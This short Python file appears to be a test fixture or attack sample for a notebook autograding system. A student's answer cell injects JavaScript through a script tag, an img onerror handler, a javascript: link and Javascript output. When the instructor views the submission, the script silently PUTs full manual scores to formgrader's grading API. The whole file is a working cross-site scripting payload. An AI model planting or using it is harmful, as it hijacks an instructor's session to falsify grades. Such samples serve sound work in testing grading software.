"""The answer cell displays HTML with a `<script>` (and an `<img onerror>`, a `javascript:` link and JavaScript output):
formgrader renders the autograded notebook in its own origin, where the script can PUT full manual scores through
formgrader's API while the instructor looks at the submission.

where: answer counting_functions
stock: 0
effect: script
"""
from IPython.display import HTML, Javascript, Markdown, display

_put = ("document.querySelectorAll('.score').forEach(function (g) { fetch('/formgrader/api/grade/' + g.id, "
        "{method: 'PUT', body: JSON.stringify({manual_score: 1})}); }) /* grader-xss-marker */")
display(HTML(f"<script>{_put}</script><img src=x onerror=\"{_put}\">"))
display(Javascript(_put))
display(Markdown(f"[see my notes](javascript:{_put})"))
